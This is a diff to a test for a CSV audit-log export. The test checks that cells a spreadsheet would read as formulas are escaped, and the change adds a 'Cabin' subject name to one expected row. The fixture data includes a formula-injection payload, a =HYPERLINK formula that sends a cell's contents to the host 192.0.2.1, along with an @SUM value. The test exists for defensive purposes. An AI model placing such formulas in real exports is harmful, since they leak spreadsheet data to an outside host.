@@ -61,7 +61,7 @@ it('as CSV has a header, and nothing that a spreadsheet takes for a formula', as
     '"at","by","key","via","action","subject","outcome","request_id","address","client","count","subject_name"',
   );
   expect(rows).toHaveLength((await entries()).length);
-  expect(text).toContain(`,"127.0.0.1","'=HYPERLINK(""http://192.0.2.1/?""&A1)",1,\r\n`);
+  expect(text).toContain(`,"127.0.0.1","'=HYPERLINK(""http://192.0.2.1/?""&A1)",1,"Cabin"\r\n`);
   expect(text).toContain(`,,"'@SUM(1)",1,\r\n`);
 });
 
